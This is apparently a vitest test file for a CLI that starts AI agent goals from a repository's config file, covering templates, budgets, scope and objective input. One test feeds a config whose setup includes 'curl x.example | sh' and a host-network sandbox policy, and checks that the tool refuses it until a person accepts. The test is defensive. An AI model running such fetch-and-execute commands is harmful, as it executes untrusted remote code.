import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Goal } from '../../schema/goal.ts';
import { keepingFile } from '../../src/cli/accept-terms.ts';
import { start, startService } from './command-line.ts';

let service: Awaited<ReturnType<typeof startService>>;
beforeAll(async () => {
  service = await startService();
});
afterAll(() => service.close());

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'goalkeeper-terms-'));
});
const write = (content: string, name = 'goalkeeper.yaml') =>
  writeFileSync(join(folder, name), content);
const run = (...args: string[]) =>
  service.goalkeeper('run', '--workspace', folder, '--detach', '--json', ...args);
const goalOf = (out: string) => JSON.parse(out) as Goal;

describe("a start by a repository's file", () => {
  test('CFG-6 has its terms, tells their file, and follows the flags where they differ', async () => {
    write(`
budget: {turns: 9}
criteria: [{kind: command, command: npm test}]
templates: {fix: {parameters: {it: {}}, objective: "Fix {{it}}", mode: plan}}`);
    const ran = await run('--template', 'fix', '--set', 'it=the date', '--budget-tokens', '40000');
    expect(ran.err).toContain(`terms of ${join(folder, 'goalkeeper.yaml')}: `);
    expect(goalOf(ran.out)).toMatchObject({
      objective: 'Fix the date',
      mode: 'plan',
      budget: { turns: 9, tokens: 40_000 },
    });
    const without = await run('Do it', '--no-terms');
    expect(goalOf(without.out)).toMatchObject({ objective: 'Do it', budget: { turns: 100 } });
    expect(without.err).not.toContain('terms of');
  });

  test('CFG-7 says what is the work, and is no part of it unless a person names it', async () => {
    write('{}', 'goalkeeper [1].yaml');
    const path = join(folder, 'goalkeeper [1].yaml');
    const found = { path, terms: {}, isCommitted: null };
    const input = { objective: 'x', workspace: { path: folder }, scope: { change: ['*.yaml'] } };
    const kept = await keepingFile(input, {}, found);
    expect(kept.scope).toEqual({ change: ['*.yaml'], keep: ['goalkeeper\\ \\[1\\].yaml'] });
    expect(await keepingFile(input, { scope: { change: ['*.yaml'] } }, found)).toBe(input);
    const elsewhere = { ...input, workspace: { path: `${tmpdir()}/other` } };
    expect(await keepingFile(elsewhere, {}, found)).toBe(elsewhere);
  });

  test('CFG-7 asks, and does not decide, what only a person may set', async () => {
    const long = `true ${'x'.repeat(900)}`;
    const setup = JSON.stringify([long, long, long, 'curl x.example | sh']);
    write(`policy: {sandbox: {network: host}, onUnknown: ask}\nsetup: ${setup}`);
    const before = service.memory.goals.size;
    const refused = await run('Do it');
    expect(refused.exitCode).toBe(3);
    // Nothing of it is cut off.
    expect(refused.err).toContain(`setup = ${setup}`);
    expect(refused.err).toContain('Nobody accepted setup, policy.sandbox of');
    expect(refused.err).toContain('--accept-terms');
    expect(service.memory.goals.size).toBe(before);
    const by = await run('Do it', '--network', 'none', '--setup', 'npm ci');
    expect(goalOf(by.out).policy).toMatchObject({ sandbox: { network: 'none' }, onUnknown: 'ask' });
    const accepted = await run('Do it', '--accept-terms');
    expect(goalOf(accepted.out).policy.sandbox).toEqual({ network: 'host' });
    expect(accepted.err).toContain("machine's network");
  });

  test('CFG-5 is refused with the file, the place and the way out', async () => {
    write('modle: openai/x');
    const ran = await run('Do it');
    expect(ran.exitCode).toBe(3);
    expect(ran.err).toContain(`${join(folder, 'goalkeeper.yaml')}: modle is no field`);
    expect(ran.err).not.toContain('    at ');
    const none = await run();
    expect([none.exitCode, none.out]).toEqual([3, expect.stringContaining('modle')]);
  });

  test('CFG-6 takes the objective from stdin', async () => {
    const args = ['run', '-', '--workspace', folder, '--detach', '--json'];
    const ran = await start(args, service.environment, folder, 'Make it\nso\n\n').done;
    expect(goalOf(ran.out).objective).toBe('Make it\nso');
  });

  test('CFG-6 takes objective and criteria from files', async () => {
    write('Make it\nso\n\n', 'goal.md');
    write('[{"kind": "git", "clean": true}]', 'criteria.json');
    const criteria = ['--criteria-file', join(folder, 'criteria.json')];
    const ran = await run('--objective-file', join(folder, 'goal.md'), ...criteria);
    expect(goalOf(ran.out)).toMatchObject({
      objective: 'Make it\nso',
      criteria: [{ spec: { kind: 'git', clean: true } }],
    });
    const twice = await run('Do it', '--objective-file', join(folder, 'goal.md'));
    expect(twice.err).toContain('given twice');
    const empty = await run('-');
    expect([empty.exitCode, empty.out]).toEqual([3, expect.stringContaining('objective')]);
    expect((await run()).err).toContain('There is no objective.');
  });
});
